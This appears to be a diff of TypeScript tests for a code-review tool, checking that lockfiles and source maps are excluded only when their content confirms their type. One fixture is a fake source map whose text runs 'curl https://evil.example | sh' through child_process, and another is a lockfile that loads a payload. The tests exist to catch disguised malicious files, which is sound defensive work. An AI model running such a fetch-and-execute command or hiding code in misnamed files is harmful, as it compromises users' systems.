@@ -14,7 +14,7 @@ import {
 import { buildPrompt } from "../../src/review/prompt.js";
 import type { ReviewReply } from "../../src/review/reviewer.js";
 import { newRoundToken } from "../../src/review/round-token.js";
-import { diffOf, file, files } from "./diff-fixtures.js";
+import { diffOf, file, files, provenContent } from "./diff-fixtures.js";
 
 const ok: ReviewReply = {
   ok: true,
@@ -43,22 +43,95 @@ function outcomes(plan: ReviewPlan, answered: (index: number) => boolean): Chunk
 }
 
 describe("planReview: scope", () => {
-  it("excludes lockfiles and source maps by default, listing each with its rule and reason", () => {
-    const plan = planReview(
-      diffOf([
-        file({ path: "package-lock.json" }),
-        file({ path: "web/yarn.lock" }),
-        file({ path: "dist/index.js.map" }),
-        file({ path: "src/a.ts" }),
-      ]),
-    );
+  it("excludes lockfiles and source maps by default when their content proves it, listing each with its rule and reason", () => {
+    const paths = ["package-lock.json", "web/yarn.lock", "dist/index.js.map"];
+    const plan = planReview(diffOf([...paths, "src/a.ts"].map((path) => file({ path }))), {
+      content: provenContent(paths),
+    });
     expect(plan.inScope.map((f) => f.path)).toEqual(["src/a.ts"]);
-    expect(plan.excluded.map((e) => [e.path, e.rule])).toEqual([
-      ["package-lock.json", "package-lock.json"],
-      ["web/yarn.lock", "yarn.lock"],
-      ["dist/index.js.map", "*.js.map"],
+    expect(plan.excluded.map((e) => [e.path, e.rule, e.by, e.content])).toEqual([
+      ["package-lock.json", "package-lock.json", "default", "lockfile"],
+      ["web/yarn.lock", "yarn.lock", "default", "lockfile"],
+      ["dist/index.js.map", "*.js.map", "default", "source-map"],
     ]);
     expect(plan.excluded[0]?.reason).toMatch(/lockfile/);
+    expect(plan.reviewedDespiteName).toEqual([]);
+  });
+
+  it("reviews a file named like a default exclude whose content is not what the name claims, saying why", () => {
+    const paths = ["src/errors.js.map", "yarn.lock", "dist/a.css.map", "pnpm-lock.yaml"];
+    const content = new Map([
+      [
+        "src/errors.js.map",
+        {
+          kind: "text" as const,
+          text: 'require("child_process").execSync("curl https://evil.example | sh")\n',
+          from: "tree" as const,
+        },
+      ],
+      [
+        "yarn.lock",
+        { kind: "text" as const, text: 'module.exports = require("./payload")\n', from: "diff" as const },
+      ],
+      [
+        "dist/a.css.map",
+        {
+          kind: "text" as const,
+          text: '{"version": 2, "sources": [], "mappings": ""}',
+          from: "api" as const,
+        },
+      ],
+      [
+        "pnpm-lock.yaml",
+        { kind: "unavailable" as const, why: "no checked-out tree of the head to read it from" },
+      ],
+    ]);
+    const plan = planReview(diffOf(paths.map((path) => file({ path }))), { content });
+    expect(plan.inScope.map((f) => f.path)).toEqual(paths);
+    expect(plan.excluded).toEqual([]);
+    expect(plan.reviewedDespiteName.map((r) => [r.path, r.rule])).toEqual([
+      ["src/errors.js.map", "*.js.map"],
+      ["yarn.lock", "yarn.lock"],
+      ["dist/a.css.map", "*.css.map"],
+      ["pnpm-lock.yaml", "pnpm-lock.yaml"],
+    ]);
+    expect(plan.reviewedDespiteName[0]?.why).toMatch(/^it is not a source map: not JSON/);
+    expect(plan.reviewedDespiteName[1]?.why).toMatch(
+      /^it is not the lockfile its name claims: .*yarn lockfile v1/,
+    );
+    expect(plan.reviewedDespiteName[2]?.why).toBe('it is not a source map: "version" is 2, not 3');
+    expect(plan.reviewedDespiteName[3]?.why).toMatch(/could not be read \(no checked-out tree/);
+  });
+
+  it("reviews a default-excluded name whose content was never read (fail closed), and withholds a removed one", () => {
+    const plan = planReview(
+      diffOf([
+        file({ path: "dist/index.js.map" }),
+        { ...file({ path: "old.js.map", adds: 0, dels: 3 }), status: "removed" },
+      ]),
+    );
+    expect(plan.inScope.map((f) => f.path)).toEqual(["dist/index.js.map"]);
+    expect(plan.reviewedDespiteName[0]?.why).toBe("its content at the head was not read");
+    expect(plan.excluded.map((e) => [e.path, e.reason])).toEqual([
+      ["old.js.map", "source map, removed: nothing is left at the head to run"],
+    ]);
+  });
+
+  it("no longer withholds lockfiles the gate cannot check: they are reviewed", () => {
+    const paths = ["Cargo.lock", "go.sum", "poetry.lock", "bun.lockb", "Gemfile.lock", "composer.lock"];
+    const plan = planReview(diffOf(paths.map((path) => file({ path }))));
+    expect(plan.inScope.map((f) => f.path)).toEqual(paths);
+    expect(plan.excluded).toEqual([]);
+  });
+
+  it("keeps the user's own exclude globs by name: the user chose them", () => {
+    const plan = planReview(diffOf([file({ path: "src/errors.js.map" }), file({ path: "vendor/x.js" })]), {
+      exclude: ["*.js.map", "vendor/"],
+    });
+    expect(plan.excluded.map((e) => [e.path, e.by])).toEqual([
+      ["src/errors.js.map", "exclude"],
+      ["vendor/x.js", "exclude"],
+    ]);
   });
 
   it("never excludes what runs: dist/, vendor/, minified and generated code, workflows", () => {
@@ -208,6 +281,22 @@ describe("promptOverheadTokens", () => {
 });
 
 describe("coverage", () => {
+  it("says what was withheld instead of a plain 100%", () => {
+    const maps = ["dist/a.js.map", "dist/b.js.map"];
+    const plan = planReview(
+      diffOf([
+        file({ path: "src/a.ts" }),
+        file({ path: "package-lock.json" }),
+        ...maps.map((path) => file({ path })),
+        file({ path: "docs/x.md" }),
+      ]),
+      { content: provenContent(["package-lock.json", ...maps]), exclude: ["docs/"] },
+    );
+    expect(formatCoverage(plan.coverage)).toBe(
+      "100% of the files in scope; withheld: 1 lockfile (checked deterministically), 2 source maps (verified by content), 1 file (exclude/include settings)",
+    );
+  });
+
   it("is 100% only when every file in scope was answered", () => {
     const a = file({ path: "a.ts", adds: 3 });
     const b = file({ path: "b.ts", adds: 7 });
@@ -263,7 +352,9 @@ describe("coverage", () => {
   });
 
   it("is incomplete when nothing is in scope: nothing reviewed is not everything reviewed", () => {
-    const onlyLock = planReview(diffOf([file({ path: "package-lock.json" })]));
+    const onlyLock = planReview(diffOf([file({ path: "package-lock.json" })]), {
+      content: provenContent(["package-lock.json"]),
+    });
     expect(onlyLock.chunks).toEqual([]);
     expect(onlyLock.coverage.complete).toBe(false);
     expect(onlyLock.coverage.gaps).toEqual(["no file in scope to review (1 file excluded)"]);
